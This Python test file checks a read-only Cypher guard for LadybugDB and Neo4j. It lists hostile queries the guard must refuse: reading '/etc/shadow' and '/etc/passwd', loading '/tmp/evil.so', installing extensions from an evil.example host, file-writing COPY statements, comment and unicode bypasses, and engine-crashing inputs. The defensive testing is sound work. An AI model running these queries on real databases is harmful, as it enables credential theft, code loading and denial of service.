"""The read-only allow-list for passthrough Cypher, per dialect, and identifier checks.

Tables of hostile queries (issue 18's findings, every write and admin clause, mixed case,
comments of each form, unicode look-alikes and invisible characters) and of reads that
must stay allowed (keywords inside strings, backquoted names, property names). The
LadybugDB rules are also checked against the real engine: the lexer reads comments,
strings and names as the engine does, and the function lists match the engine's own.
"""

from __future__ import annotations

import os
import re
import tempfile
import time
from pathlib import Path

import ladybug as lb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kgstore import Entity, Fact, QueryError, ReadOnlyQueryError, open_store
from kgstore.backends.ladybug import store as ladybug_store
from kgstore.backends.ladybug.schema import DB_FILE
from kgstore.cypher.guard import (
    CATALOGUE,
    MAX_CASE_NESTING,
    MAX_NESTING,
    MAX_TOKENS,
    assert_read_only,
    check_identifier,
    parameter_names,
)
from kgstore.cypher.lexer import LADYBUG, NEO4J, Kind, LexError, tokenise
from kgstore.errors import QueryTooLargeError

# -- LadybugDB ---------------------------------------------------------------------------

LADYBUG_READS = [
    "MATCH (e:Entity) RETURN e.id LIMIT 5",
    "MATCH (e:Entity {id: $id})-[f:Fact]->(o) RETURN f.predicate, o.id",
    "MATCH (e:Entity) WHERE e.name = 'CREATE' RETURN e",
    "MATCH (e:Entity) WHERE e.name = \"DETACH DELETE\" RETURN e",
    "MATCH (e:Entity) WHERE e.name = 'it\\'s a SET' RETURN e",
    'RETURN "say \\"MERGE\\" twice" AS s',
    "MATCH (e:Entity) RETURN e.id AS `create` ORDER BY `delete`",
    "// DELETE everything? no\nMATCH (e) RETURN e",
    "MATCH (e) /* SET e.x = 1 */ RETURN e",
    "MATCH (e)\n/* multi\nline DROP TABLE Entity\n*/ RETURN count(e)",
    "MATCH (e:Entity) RETURN e.id SKIP 10 LIMIT 5",
    "MATCH (e:Entity) WITH e ORDER BY e.id RETURN e.created_at, e.offset, e.reset, e.settings",
    "MATCH (e:Entity) RETURN e.id UNION ALL MATCH (l:Literal) RETURN l.id",
    "MATCH (e:Entity) RETURN e.id UNION MATCH (l:Literal) RETURN l.id",
    "CALL show_tables() RETURN *",
    "MATCH p = (a)-[*1..3]-(b) RETURN length(p)",
    "RETURN 'http://example.org/a' AS iri, 2 // trailing CREATE comment",
    # keywords as property names, map keys, labels' variables, backquoted names
    "MATCH (e:Entity) RETURN e.set, e.delete, e.load, e.copy, e.update, e.call",
    "MATCH (n) WHERE n.delete = 1 AND n.install IS NULL RETURN n",
    "MATCH (e:Entity) RETURN {load: 1, copy: 2, `set`: 3, create: 4} AS m",
    "MATCH (load:Entity)-[delete:Fact]->(o) RETURN o.id",
    "MATCH (`set`) RETURN `set`, `LOAD`, `copy`",
    "MATCH (e:`DELETE`) RETURN e",
    # one statement with a trailing semicolon
    "MATCH (e:Entity) RETURN e.id;",
    "MATCH (e:Entity) RETURN e.id ; // done",
    # the catalogue
    "CALL table_info('Entity') RETURN *",
    "CALL show_connection('Fact') RETURN *",
    "CALL SHOW_FUNCTIONS() RETURN *",
    "CALL db_version() RETURN *",
    "CALL `show_tables`() RETURN *",
    "CALL show_tables()",
    "MATCH (e:Entity) CALL table_info('Entity') RETURN e.id, name LIMIT 2",
    # subqueries, expressions
    "MATCH (e:Entity) WHERE EXISTS { MATCH (e)-[:Fact]->() } RETURN e.id",
    "MATCH (e:Entity) RETURN COUNT { MATCH (e)-[:Fact]->() } AS c",
    "RETURN CASE WHEN 1 = 1 THEN 'UPDATE' ELSE NULL END AS x",
    "RETURN CAST(1 AS STRING) AS s, list_transform([1, 2], x -> x * 2) AS l",
    "UNWIND [1, 2] AS x WITH x WHERE x > 1 RETURN x ORDER BY x DESC",
    "OPTIONAL MATCH (e:Entity {id: 'none'}) RETURN e",
    "MATCH (a)-[r:Fact* SHORTEST 1..3]->(b) RETURN length(r)",
    "MATCH (e:Entity) WITH * RETURN e.id",
    "MATCH (e) WHERE e.name STARTS WITH 'a' AND NOT e.id CONTAINS 'x' OR e.name IS NULL RETURN e",
    "MATCH (e:Entity) RETURN e.id AS id ORDER BY id ASC SKIP 1 LIMIT 1",
    "RETURN 1e3 AS x, .5 AS y, 1.25 AS z, -3 AS w",
    "RETURN $x AS x, $1 AS y, $`odd name` AS z",
    # strings, comments and whitespace that only look dangerous
    "RETURN '/* not a comment */ // nor this' AS s",
    "RETURN \"it's\" AS s",
    "RETURN 'a\\nb\\u00e9\\x41\\\\' AS s",
    "RETURN 'Привет, ＣＲＥＡＴＥ; LOAD FROM x' AS s",
    "MATCH (e:`Entité`) RETURN e",
    "MATCH (e) /* ***/ RETURN e",
    # LadybugDB: '**/' does not close a comment, so all of this is one comment
    "MATCH (e) /* **/ COPY (RETURN 1) TO '/tmp/x.csv' */ RETURN e",
    "RETURN\u00a01\u3000AS\u2003x",
    "RETURN 1 AS x // a comment at the very end",
    # functions that build values, within their bounds
    "RETURN repeat('-', 40) AS rule, lpad('7', 3, '0') AS n, rpad('a', 1000000, ' ') AS w",
    "RETURN size(repeat('ab', 500000)) AS n",
    "UNWIND range(1, 3000000) AS x RETURN count(x)",
    "WITH [1, 2] AS l UNWIND range(0, size(l) - 1) AS i RETURN l[i]",
]


@pytest.mark.parametrize("query", LADYBUG_READS)
def test_ladybug_reads_pass(query: str) -> None:
    assert_read_only(query)
    assert_read_only(query, dialect="ladybug")


LADYBUG_HOSTILE = [
    # issue 18, finding 1: native code
    ("LOAD '/tmp/evil.so'", "`LOAD`"),
    ("load '/tmp/evil.so'", "`LOAD`"),
    ("LOAD EXTENSION '/tmp/evil.so'", "`LOAD EXTENSION`"),
    ("load   extension json", "`LOAD EXTENSION`"),
    # finding 2: the comment bypass and COPY ... TO
    ("/* **/ ' */ COPY (MATCH (e:Entity) RETURN e.id LIMIT 3) TO '/tmp/x.csv'", "`COPY`"),
    ("MATCH (e) /* ***/ COPY (RETURN 1) TO '/tmp/x.csv'", "`COPY`"),
    ("COPY (MATCH (e:Entity) RETURN e.id) TO '/tmp/x.csv'", "`COPY`"),
    ("COPY Entity FROM 'e.parquet'", "`COPY`"),
    # finding 3: reading files
    ("LOAD FROM '/etc/shadow' (file_format='csv', header=false, delim=':') RETURN * LIMIT 2",
     "`LOAD FROM`"),
    ("LOAD WITH HEADERS (a STRING) FROM '/etc/passwd' RETURN *", "`LOAD`"),
    ("MATCH (e) LOAD FROM 'x.parquet' RETURN *", "`LOAD FROM`"),
    ("LOAD FROM 'x.parquet' RETURN *", "`LOAD FROM`"),
    ("CALL read_csv_serial('/etc/passwd') RETURN *", "`CALL read_csv_serial`"),
    ("CALL `read_csv_serial`('/etc/passwd') RETURN *", "`CALL read_csv_serial`"),
    ("CALL read_parquet('/tmp/x.parquet') RETURN *", "`CALL read_parquet`"),
    ("MATCH (e) RETURN read_csv_serial('/etc/passwd')", "`read_csv_serial(…)`"),
    ("UNWIND read_parquet('/tmp/x') AS r RETURN r", "`read_parquet(…)`"),
    ("RETURN `read_json`('/etc/passwd')", "`read_json(…)`"),
    ("RETURN sqlite_scan('/tmp/db', 't')", "`sqlite_scan(…)`"),
    ("RETURN e.read_csv('x')", "`e.read_csv(…)`"),
    # finding 4: extensions and settings
    ("UPDATE httpfs", "`UPDATE`"),
    ("UNINSTALL httpfs", "`UNINSTALL`"),
    ("INSTALL httpfs", "`INSTALL`"),
    ("FORCE INSTALL httpfs FROM 'http://evil.example/'", "`FORCE INSTALL`"),
    ("CALL home_directory='/tmp/x'", "`CALL home_directory=…`"),
    ("call HOME_DIRECTORY = '/tmp'", "`CALL HOME_DIRECTORY=…`"),
    ("CALL threads = 64", "`CALL threads=…`"),
    ("CALL current_setting('home_directory') RETURN *", "`CALL current_setting`"),
    ("CALL clear_warnings()", "`CALL clear_warnings`"),
    ("CALL project_graph('g', ['Entity'], ['Fact'])", "`CALL project_graph`"),
    ("CALL show_tables RETURN *", "`CALL show_tables`"),
    ("RETURN nextval('seq')", "`nextval(…)`"),
    # finding 5: one statement
    ("RETURN 1; RETURN 2", "`;`"),
    ("RETURN 1;RETURN 2;", "`;`"),
    ("MATCH (n) RETURN n; CREATE (m)", "`;`"),
    ("RETURN 1;;", "`;`"),
    ("RETURN 'a;b'; COPY (RETURN 1) TO '/tmp/x.csv'", "`;`"),
    ("MATCH (n) RETURN n\u2028;\u2028COPY (RETURN 1) TO '/tmp/x'", "`;`"),
    # writes and admin statements, any case, any spacing
    ("CREATE (n:Entity {id: 'x'})", "`CREATE`"),
    ("create (n)", "`CREATE`"),
    ("MERGE (n:Entity {id: 'x'})", "`MERGE`"),
    ("MATCH (n) SET n.name = 'x'", "`SET`"),
    ("match (n) sEt n.name = 'x'", "`SET`"),
    ("MATCH (n) DELETE n", "`DELETE`"),
    ("MATCH (n) DETACH DELETE n", "`DETACH DELETE`"),
    ("MaTcH (n) detach\n\tdelete n", "`DETACH DELETE`"),
    ("MATCH (n) REMOVE n.name", "`REMOVE`"),
    ("DROP TABLE Entity", "`DROP`"),
    ("ALTER TABLE Entity ADD x STRING", "`ALTER`"),
    ("ATTACH 'other.lbdb' AS o (dbtype lbug)", "`ATTACH`"),
    ("USE o", "`USE`"),
    ("DETACH o", "`DETACH`"),
    ("IMPORT DATABASE '/tmp/dump'", "`IMPORT DATABASE`"),
    ("EXPORT DATABASE '/tmp/dump'", "`EXPORT DATABASE`"),
    ("CHECKPOINT", "`CHECKPOINT`"),
    ("BEGIN TRANSACTION", "`BEGIN TRANSACTION`"),
    ("COMMIT", "`COMMIT`"),
    ("ROLLBACK", "`ROLLBACK`"),
    ("UNWIND [1] AS x FOREACH (y IN [x] | CREATE (:N))", "`FOREACH`"),
    ("COMMENT ON TABLE Entity IS 'x'", "`COMMENT`"),
    ("CREATE MACRO f(x) AS x + 1", "`CREATE`"),
    ("EXPLAIN MATCH (n) RETURN n", "`EXPLAIN`"),
    ("PROFILE MATCH (n) RETURN n", "`PROFILE`"),
    ("ANALYZE", "`ANALYZE`"),
    ("MATCH (n:`Entity`) SET n.x = 1", "`SET`"),
    ("MATCH (e) WHERE e.id = $id SET e.name = $name", "`SET`"),
    ("RETURN 1CREATE (n)", "`CREATE`"),
    ("RETURN $x COPY (RETURN 1) TO '/tmp/x'", "`COPY`"),
    ("RETURN 1 UNION COPY (RETURN 1) TO '/tmp/x'", "`COPY`"),
    ("CALL { MATCH (n) RETURN n } RETURN 1", "`CALL {…}`"),
    # keywords as unquoted variables are refused (backquote them)
    ("MATCH (set) RETURN set", "`SET`"),
    ("MATCH (e) RETURN e.id AS load", "`LOAD`"),
    # clauses the check does not know are refused, not taken for variables
    ("MATCH (e) FROB e RETURN e", "`FROB`"),
    ("MATCH (e) WITH * FROB RETURN e", "`FROB`"),
    ("MATCH (e) RETURN e LIMIT 1 FROB", "`FROB`"),
    ("MATCH (e) FROB(e) RETURN e", "`FROB (…)`"),
    ("MATCH (e) RETURN {k: CALL abs(1)} AS m", "`abs (…)`"),
    ("RETURN 1 UNION FROB", "`FROB`"),
    ("MATCH (e) WHERE EXISTS { FROB (e) } RETURN e", "`FROB`"),
    ("FROB", "`FROB`"),
    ("(n) RETURN n", "`(`"),
    ("", "empty"),
    ("   /* nothing */ // at all", "empty"),
    (";", "empty"),
    # comments of every form
    ("// comment\nMATCH (n) DELETE n", "`DELETE`"),
    ("MATCH (n) /* it's */ DELETE n", "`DELETE`"),
    ("MATCH (n) // don't\nDELETE n", "`DELETE`"),
    ("MATCH (n) // x\r\nDELETE n", "`DELETE`"),
    ("MATCH (n) /* /* nested? */ DELETE n */ RETURN n", "`DELETE`"),
    ("MATCH (n) /* unterminated DELETE n", "not closed"),
    ("MATCH (n) RETURN n /* **/", "not closed"),  # '**/' does not close it here
    ("MATCH (n) RETURN n // c\rDELETE n", "carriage return"),
    ("MATCH (n) RETURN 'unterminated", "not closed"),
    ("MATCH (n) RETURN `unterminated", "not closed"),
    ("RETURN 'a\\q' AS s", "escape \\q"),
    ("RETURN 'it\\' /* ' COPY (RETURN 1) TO '/tmp/x.csv' //", "`COPY`"),
    # unicode look-alikes and invisible characters
    ("ＣＲＥＡＴＥ (n)", "U+FF23"),
    ("MATCH (n) \u0421REATE (m)", "U+0421"),  # Cyrillic ES for C
    ("MATCH (n) CRE\u200bATE (m)", "U+200B"),
    ("LOAD\u00a0FROM '/etc/shadow' RETURN *", "`LOAD FROM`"),
    ("RETURN 1\u3000UNION\u3000LOAD FROM 'x' RETURN *", "`LOAD FROM`"),
    ("RETURN 1 \ufeff", "U+FEFF"),
    ("\u202eRETURN 1", "U+202E"),
    ("MATCH (n)\x00 DELETE n", "U+0000"),
    ("RETURN 1 AS x\u0085COPY (RETURN 1) TO '/tmp/x'", "U+0085"),
    ("MATCH (n) RETURN n \u2013> (m)", "U+2013"),
    # beyond the engine's limits (findings C1, C2): it segfaulted on these
    ("RETURN " + "(" * 5000 + "1" + ")" * 5000, "nests brackets at least 4000 deep"),
    ("RETURN " + "[" * 3000 + "1" + "]" * 3000, "nests brackets at least 3000 deep"),
    ("RETURN " + "{a:" * 1000 + "1" + "}" * 1000, "nests brackets at least 1000 deep"),
    ("RETURN " + "(" * 33 + "1" + ")" * 33, "nests brackets 33 deep (at most 32 allowed)"),
    ("RETURN " + "[{(" * 11 + "1" + ")}]" * 11, "nests brackets 33 deep"),
    ("RETURN " + ")" * 50 + "(" * 33 + "1", "nests brackets 33 deep"),  # strays lower nothing
    ("RETURN " + "CASE WHEN true THEN " * 5 + "1" + " END" * 5,
     "nests CASE expressions 5 deep (at most 4 allowed)"),
    ("MATCH (e) RETURN " + "CASE WHEN e.end THEN " * 5 + "1" + " END" * 5, "CASE expressions 5"),
    ("RETURN " + "+".join(["1"] * 10000), "longer than 4,000 tokens"),
    ("RETURN " + "+".join(["1"] * 2001), "longer than 4,000 tokens"),
    ("MATCH (e) WHERE e.id IN [" + ",".join(["'m.1'"] * 2000) + "] RETURN e",
     "pass a long list as a parameter"),
    # functions that build what their arguments say (issue 32: the engine segfaulted)
    ("RETURN size(repeat('A', 4294967296))", "repeat(…) would build up to 4,294,967,296"),
    ("RETURN size(repeat('AB', 2147483648))", "4,294,967,296 characters"),
    ("RETURN size(REPEAT('ab', 500001))", "1,000,002 characters"),
    ("RETURN repeat('A', -1)", "a count of 0 or more"),
    ("MATCH (e:Entity) RETURN repeat(e.name, 2)", "takes a string literal and a number"),
    ("RETURN repeat('A', $n)", "takes a string literal and a number"),
    ("RETURN repeat('A', 2 * 3)", "takes a string literal and a number"),
    ("RETURN size(lpad('a', 5000000000, 'b'))", "would build 5,000,000,000 characters"),
    ("RETURN rpad('a', 1000001, 'b')", "`rpad(…)`"),
    ("RETURN lpad('a', $n, 'b')", "must be a number written in the query"),
    ("MATCH (e:Entity) RETURN lpad('a', size(e.id) * 1000000000, 'b')", "`lpad(…)`"),
    ("RETURN size(range(1, 5000000000))", "a list of 5,000,000,000 numbers"),
    ("RETURN range(-5000000000, 0, 1)", "a list of 5,000,000,001 numbers"),
    ("RETURN size(`range`(1, 10000001))", "a list of 10,000,001 numbers"),
]


def _assert_refused(query: str, dialect: str, fragment: str) -> None:
    with pytest.raises(ReadOnlyQueryError) as info:
        assert_read_only(query, dialect)  # type: ignore[arg-type]
    message = str(info.value)
    assert fragment in message, message
    assert "read-only" in message
    assert "\n" not in message and "\r" not in message  # one line on the terminal


@pytest.mark.parametrize(("query", "fragment"), LADYBUG_HOSTILE)
def test_ladybug_hostile_queries_are_refused(query: str, fragment: str) -> None:
    _assert_refused(query, "ladybug", fragment)


def test_ladybug_table_is_large_enough() -> None:
    assert len(LADYBUG_HOSTILE) >= 60


def test_refusal_message_lists_what_is_allowed() -> None:
    with pytest.raises(ReadOnlyQueryError) as info:
        assert_read_only("MATCH (set) RETURN set")
    message = str(info.value)
    assert "write it in backquotes: `set`" in message
    for part in ("MATCH", "OPTIONAL MATCH", "UNION [ALL]", *CATALOGUE["ladybug"]):
        assert part in message


def test_limits_are_inclusive() -> None:
    """The bounds themselves pass: nesting as deep as allowed, a query exactly as long."""
    assert_read_only("RETURN " + "(" * MAX_NESTING + "1" + ")" * MAX_NESTING)
    assert_read_only("RETURN " + "[{a:" * (MAX_NESTING // 2) + "1" + "}]" * (MAX_NESTING // 2))
    assert_read_only("RETURN " + "CASE WHEN true THEN " * MAX_CASE_NESTING + "1"
                     + " END" * MAX_CASE_NESTING)
    # CASE after CASE, and brackets after brackets, do not add up
    assert_read_only("RETURN " + " + ".join(["CASE WHEN true THEN 1 END"] * 50))
    assert_read_only("RETURN " + ", ".join(["((((1))))"] * 50))
    # a property named end closes no CASE; a backquoted `case` opens none
    assert_read_only("MATCH (e) RETURN e.end, {end: 1}, `case`")
    flat = "RETURN " + "+".join(["1"] * (MAX_TOKENS // 2))  # RETURN, n terms, n - 1 plus
    assert len(tokenise(flat, LADYBUG)) == MAX_TOKENS
    assert_read_only(flat)
    with pytest.raises(ReadOnlyQueryError, match="longer than"):
        assert_read_only(flat + "+1")


def test_limits_apply_to_neo4j() -> None:
    for query in ("RETURN " + "(" * 40 + "1" + ")" * 40,
                  "RETURN " + "CASE WHEN true THEN " * 5 + "1" + " END" * 5,
                  "RETURN " + "+".join(["1"] * 3000)):
        with pytest.raises(QueryTooLargeError):
            assert_read_only(query, "neo4j")


def test_a_huge_query_is_refused_quickly() -> None:
    """The lexer stops after the limit: ten megabytes take no longer than the first 4,000
    tokens (the old check read all of it; the engine crashed on it)."""
    query = "RETURN " + "1+" * 5_000_000 + "1"
    started = time.perf_counter()
    with pytest.raises(QueryTooLargeError):
        assert_read_only(query)
    assert time.perf_counter() - started < 1.0


def test_parameter_names_skip_strings_and_comments() -> None:
    query = "MATCH (e) WHERE e.id = $id AND e.name = '$name' /* $c */ RETURN $`a b`, $id // $d"
    assert parameter_names(query) == {"id", "a b"}
    assert parameter_names("RETURN 1") == frozenset()
    with pytest.raises(ReadOnlyQueryError):
        parameter_names("RETURN '$open")


def test_unknown_dialect() -> None:
    with pytest.raises(ValueError, match="unknown Cypher dialect"):
        assert_read_only("RETURN 1", "gremlin")  # type: ignore[arg-type]


# -- Neo4j (lexical only until the backend lands) -----------------------------------------

NEO4J_READS = [
    "MATCH (n:Person) RETURN n.name LIMIT 5",
    "MATCH (n) WHERE n.name = 'CREATE' RETURN n",
    "MATCH (n) WHERE n.name = \"LOAD CSV\" RETURN n.set, n.delete",
    "CALL db.labels()",
    "CALL db.labels() YIELD label RETURN label",
    "CALL db.relationshipTypes() YIELD relationshipType RETURN relationshipType",
    "CALL db.propertyKeys()",
    "CALL db.schema.visualization()",
    "CALL db.schema.nodeTypeProperties()",
    "CALL dbms.components() YIELD name, versions RETURN name",
    "CALL `db`.`labels`()",
    "MATCH (n) /* **/ RETURN n",          # Neo4j closes the comment at the first */
    "MATCH (n) // x\rRETURN n",            # and ends // comments at a carriage return
    "RETURN 'a\\qb' AS s",                 # any character may follow a backslash
    "RETURN 0x1F AS h, 1_000 AS k, 1.5e-3 AS f",
    "MATCH (n) RETURN n {.name, .set} AS m",
    "MATCH (n) WHERE n:Person RETURN n",
    "RETURN date.truncate('month', date()) AS d, duration.between(date(), date()) AS x",
    "RETURN point.distance(point({x: 1, y: 1}), point({x: 2, y: 2})) AS p",
    "RETURN reduce(s = 0, x IN [1, 2] | s + x) AS s",
    "MATCH (n) RETURN n ORDER BY n.x OFFSET 1 LIMIT 1",
    "MATCH (n) RETURN COLLECT { MATCH (n)-->(m) RETURN m.name } AS names",
    "MATCH (n) WHERE EXISTS { (n)-->() } RETURN n",
    "MATCH (n) RETURN COUNT { (n)-->() } AS c",
    "MATCH p = shortestPath((a)-[*]-(b)) RETURN p",
    "RETURN [x IN [1, 2, 3] WHERE x > 1 | x * 2] AS l",
    "MATCH (n) RETURN n.name AS name UNION MATCH (m) RETURN m.name AS name",
    "RETURN $param AS p",
    "MATCH (n) RETURN n;",
    "OPTIONAL MATCH (n:`DELETE`) RETURN n",
    "RETURN 'Привет' AS s, \"ＣＲＥＡＴＥ\" AS t",
    # \uXXXX escapes inside strings and backquoted names are values (issue 32)
    "RETURN '\\u0041\\u00e9' AS s",
    "RETURN 'caf\\u00e9 \\ud83d\\ude00' AS s",
    "RETURN '\\\\u0027' AS s",              # an escaped backslash: no escape follows
    "RETURN '\\u005c'' AS s",                # a decoded backslash escapes the quote
    "RETURN \"\\u0027\" AS s",                 # a single quote inside a double-quoted string
    "RETURN 1 AS `a\\u0041b`",
    "RETURN '\\U0001F600' AS s",               # \U is no escape to Neo4j's first pass
]


@pytest.mark.parametrize("query", NEO4J_READS)
def test_neo4j_reads_pass(query: str) -> None:
    assert_read_only(query, dialect="neo4j")


NEO4J_HOSTILE = [
    ("LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line", "`LOAD CSV`"),
    ("load csv with headers from 'https://evil.example/x.csv' as r return r", "`LOAD CSV`"),
    ("USING PERIODIC COMMIT LOAD CSV FROM 'x' AS l CREATE (:N)", "`USING`"),
    ("USE system SHOW USERS", "`USE`"),
    ("MATCH (n) CALL { WITH n SET n.x = 1 } IN TRANSACTIONS RETURN n", "`CALL {…}`"),
    ("CALL { MATCH (n) RETURN n } RETURN 1", "`CALL {…}`"),
    ("MATCH (n) CALL (n) { SET n.x = 1 } RETURN n", "`CALL {…}`"),
    ("MATCH (n) WITH n CALL { CREATE (m) } IN TRANSACTIONS OF 10 ROWS", "`CALL {…}`"),
    ("CALL apoc.load.json('file:///etc/passwd')", "`CALL apoc.load.json`"),
    ("CALL apoc.cypher.runWrite('CREATE (n)', {})", "`CALL apoc.cypher.runWrite`"),
    ("MATCH (n) CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})",
     "`CALL apoc.periodic.iterate`"),
    ("CALL dbms.setConfigValue('x', 'y')", "`CALL dbms.setConfigValue`"),
    ("CALL db.createLabel('X')", "`CALL db.createLabel`"),
    ("CALL DB.LABELS()", "`CALL DB.LABELS`"),
    ("CALL db.labels", "`CALL db.labels`"),
    ("CALL `apoc`.`load`.`csv`('x')", "`CALL apoc.load.csv`"),
    ("CALL db.labels() YIELD label CALL apoc.load.json('x') YIELD value RETURN value",
     "`CALL apoc.load.json`"),
    ("RETURN apoc.text.join(['a'], ',')", "`apoc.text.join(…)`"),
    ("MATCH (n) RETURN apoc.load.json('x')", "`apoc.load.json(…)`"),
    ("RETURN genai.vector.encode('x', 'OpenAI', {token: 'k'})", "`genai.vector.encode(…)`"),
    ("MATCH (n) RETURN gds.util.asNode(1)", "`gds.util.asNode(…)`"),
    ("RETURN db.nameFromElementId('x')", "`db.nameFromElementId(…)`"),
    ("SHOW DATABASES", "`SHOW`"),
    ("SHOW USERS", "`SHOW`"),
    ("CREATE USER x SET PASSWORD 'y'", "`CREATE`"),
    ("GRANT ROLE admin TO x", "`GRANT`"),
    ("DENY READ ON GRAPH * TO x", "`DENY`"),
    ("REVOKE ROLE admin FROM x", "`REVOKE`"),
    ("DROP DATABASE neo4j", "`DROP`"),
    ("ALTER USER neo4j SET PASSWORD 'x'", "`ALTER`"),
    ("TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "`TERMINATE`"),
    ("START DATABASE x", "`START`"),
    ("STOP DATABASE neo4j", "`STOP`"),
    ("CYPHER runtime=parallel MATCH (n) RETURN n", "`CYPHER`"),
    ("EXPLAIN MATCH (n) RETURN n", "`EXPLAIN`"),
    ("PROFILE MATCH (n) RETURN n", "`PROFILE`"),
    ("MATCH (n) FINISH", "`FINISH`"),
    ("INSERT (:N {x: 1})", "`INSERT`"),
    ("MATCH (n) NODETACH DELETE n", "`NODETACH DELETE`"),
    ("MATCH (n) DETACH DELETE n", "`DETACH DELETE`"),
    ("MATCH (n) REMOVE n:Label", "`REMOVE`"),
    ("MATCH (n) SET n:Label", "`SET`"),
    ("MATCH (n) SET n += {x: 1}", "`SET`"),
    ("match (n) Set n.x = 1", "`SET`"),
    ("MERGE (n:X) ON CREATE SET n.x = 1", "`MERGE`"),
    ("FOREACH (x IN [1] | CREATE (:N))", "`FOREACH`"),
    ("MATCH (n) USING INDEX n:Person(name) RETURN n", "`USING`"),
    ("MATCH (n) RETURN n ORDER BY n.x LIMIT 1 BEGIN", "`BEGIN`"),
    ("COMMIT", "`COMMIT`"),
    ("RETURN 1 AS x UNION LOAD CSV FROM 'x' AS y RETURN y", "`LOAD CSV`"),
    ("RETURN 0x1F CREATE (n)", "`CREATE`"),
    ("MATCH (n) RETURN n.x AS `a` DELETE n", "`DELETE`"),
    ("MATCH (set) RETURN set", "`SET`"),
    ("RETURN 1; RETURN 2", "`;`"),
    ("MATCH (n) RETURN n; MATCH (m) DELETE m", "`;`"),
    ("RETURN 'it\\'s' + ' DELETE' AS s; CREATE (n)", "`;`"),
    ("RETURN '\\q' AS x CREATE (n)", "`CREATE`"),
    # Neo4j's comment rules: the first */ closes, a carriage return ends //
    ("MATCH (n) /* **/ DELETE n", "`DELETE`"),
    ("/* **/ ' */ CREATE (n) //'", "a query starts with"),
    ("MATCH (n) // x\rDELETE n", "`DELETE`"),
    ("MATCH (n) /* unterminated", "not closed"),
    ("RETURN 'unterminated", "not closed"),
    ("MATCH (n:`Label) RETURN n", "not closed"),
    ("MATCH (n) WITH * FROB n RETURN n", "`FROB`"),
    ("RETURN 1 UNION FROB", "`FROB`"),
    ("MATCH (n) WHERE EXISTS { FROB } RETURN n", "`FROB`"),
    ("", "empty"),
    (":param x => 1", "`:`"),
    # unicode
    ("ＭＡＴＣＨ (n) ＤＥＬＥＴＥ n", "U+FF2D"),
    ("MATCH (n) \u0421REATE (m)", "U+0421"),
    ("LOAD\u00a0CSV FROM 'x' AS l RETURN l", "`LOAD CSV`"),
    ("MATCH (n)\u2003DELETE n", "`DELETE`"),
    ("MATCH (n) DEL\u200bETE n", "U+200B"),
    ("MATCH (n) RETURN n\u180e", "U+180E"),  # whitespace to LadybugDB, not to Neo4j
]


@pytest.mark.parametrize(("query", "fragment"), NEO4J_HOSTILE)
def test_neo4j_hostile_queries_are_refused(query: str, fragment: str) -> None:
    _assert_refused(query, "neo4j", fragment)


def test_a_show_command_is_refused_for_what_it_does() -> None:
    """``SHOW USERS`` changes nothing: the refusal says it is administration, not that
    it would modify the store (as it did)."""
    with pytest.raises(ReadOnlyQueryError) as caught:
        assert_read_only("SHOW USERS", "neo4j")
    assert "administration" in str(caught.value)
    assert "modify the store" not in str(caught.value).split(". The cypher")[0]


def test_neo4j_table_is_large_enough() -> None:
    assert len(NEO4J_HOSTILE) >= 60


def test_neo4j_message_lists_its_catalogue() -> None:
    with pytest.raises(ReadOnlyQueryError) as info:
        assert_read_only("CALL apoc.help('x')", "neo4j")
    assert "db.labels()" in str(info.value)
    assert "show_tables()" not in str(info.value)


# -- the lexer ---------------------------------------------------------------------------


def _texts(query: str, rules: object = LADYBUG) -> list[str]:
    return [t.text for t in tokenise(query, rules)]  # type: ignore[arg-type]


def test_comment_rules_differ_per_dialect() -> None:
    query = "/* **/ RETURN 1 */ RETURN 2"
    assert _texts(query, LADYBUG) == ["RETURN", "2"]
    assert _texts(query, NEO4J) == ["RETURN", "1", "*", "/", "RETURN", "2"]
    # Neither engine nests comments.
    for rules in (LADYBUG, NEO4J):
        assert _texts("/* /* */ RETURN 4 */", rules) == ["RETURN", "4", "*", "/"]


def test_backquoted_names_and_params() -> None:
    tokens = tokenise("RETURN $`a b` AS `x``y`, $p1, a$b", LADYBUG)
    assert [(t.kind, t.text) for t in tokens] == [
        (Kind.WORD, "RETURN"), (Kind.PARAM, "a b"), (Kind.WORD, "AS"), (Kind.NAME, "x`y"),
        (Kind.SYMBOL, ","), (Kind.PARAM, "p1"), (Kind.SYMBOL, ","), (Kind.WORD, "a$b"),
    ]


def test_lex_error_names_the_position() -> None:
    with pytest.raises(LexError, match="character 8"):
        tokenise("RETURN 'abc", LADYBUG)


# -- against the real LadybugDB engine ------------------------------------------------------


@pytest.fixture(scope="module")
def engine_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("guard") / "kg"
    with open_store(path, create=True) as s:
        s.ingest([Entity("m.1", "One")], [Fact("m.1", "p", "m.2")])
    return path


@pytest.fixture(scope="module")
def engine(engine_store: Path) -> lb.Connection:
    db = lb.Database(str(engine_store / DB_FILE), read_only=True)
    return lb.Connection(db)


# (query, the tokens the guard reads, the rows the engine returns)
ENGINE_AGREES = [
    ("/* **/ RETURN 1 */ RETURN 2", ["RETURN", "2"], [[2]]),
    ("/* ***/ RETURN 3", ["RETURN", "3"], [[3]]),
    ("/* * / */ RETURN 4", ["RETURN", "4"], [[4]]),
    ("RETURN 'a\\'b' AS s", ["RETURN", "'a\\'b'", "AS", "s"], [["a'b"]]),
    ("RETURN\u00a05", ["RETURN", "5"], [[5]]),
    ("RETURN\u3000 6 // end", ["RETURN", "6"], [[6]]),
    ("RETURN 7 // end\r\n", ["RETURN", "7"], [[7]]),
    ("RETURN 8 AS `a``b`", ["RETURN", "8", "AS", "a`b"], [[8]]),
    ("RETURN 9 AS a$b", ["RETURN", "9", "AS", "a$b"], [[9]]),
    ("MATCH (e:Entity) /* **/ COPY (RETURN 1) TO '/tmp/x.csv' */ RETURN count(e)",
     ["MATCH", "(", "e", ":", "Entity", ")", "RETURN", "count", "(", "e", ")"], [[2]]),
]


@pytest.mark.parametrize(("query", "tokens", "rows"), ENGINE_AGREES)
def test_lexer_reads_queries_as_the_engine_does(
    engine: lb.Connection, query: str, tokens: list[str], rows: list[list[object]]
) -> None:
    assert _texts(query) == tokens
    assert_read_only(query)
    assert engine.execute(query).get_all() == rows


@pytest.mark.parametrize("query", [
    "RETURN 'a\\q' AS s", "RETURN 1 // c\r RETURN 2", "RETURN 1 /* open", "RETURN 'open",
    "RETURN `open", "RETURN\u200b1",
])
def test_what_the_lexer_cannot_read_the_engine_rejects(engine: lb.Connection,
